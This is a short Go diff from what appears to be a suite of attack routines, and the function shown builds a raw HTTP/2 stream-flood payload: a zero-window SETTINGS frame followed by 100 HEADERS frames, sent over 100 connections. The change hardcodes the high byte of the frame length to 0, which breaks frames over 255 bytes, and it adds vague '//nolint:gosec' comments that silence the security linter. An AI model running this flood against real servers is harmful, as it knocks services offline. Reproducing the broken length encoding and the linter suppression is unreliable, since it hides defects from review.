@@ -220,13 +220,13 @@ func invented(resource string, nodes []string) attack {
 func floods(path string) attack {
 	return attack{name: "stream floods of HTTP/2", connections: 100, secure: []string{"h2"}, send: func(_ int, c net.Conn) error {
 		frame := func(kind, flags byte, stream uint32, payload ...byte) []byte {
-			head := []byte{0, byte(len(payload) >> 8), byte(len(payload)), kind, flags}
+			head := []byte{0, 0, byte(len(payload)), kind, flags} //nolint:gosec // some bytes
 			return append(binary.BigEndian.AppendUint32(head, stream), payload...)
 		}
 		out := append([]byte(http2Preface), frame(4, 0, 0, 0, 4, 0, 0, 0, 0)...) // a window of 0
 		for i := range 100 {
 			// GET https://x by HPACK's static table, and the path as it is.
-			header := append([]byte{0x82, 0x87, 0x41, 1, 'x', 0x04, byte(len(path))}, path...)
+			header := append([]byte{0x82, 0x87, 0x41, 1, 'x', 0x04, byte(len(path))}, path...) //nolint:gosec // some bytes
 			out = append(out, frame(1, 5, uint32(2*i+1), header...)...)
 		}
 		_, err := c.Write(out)
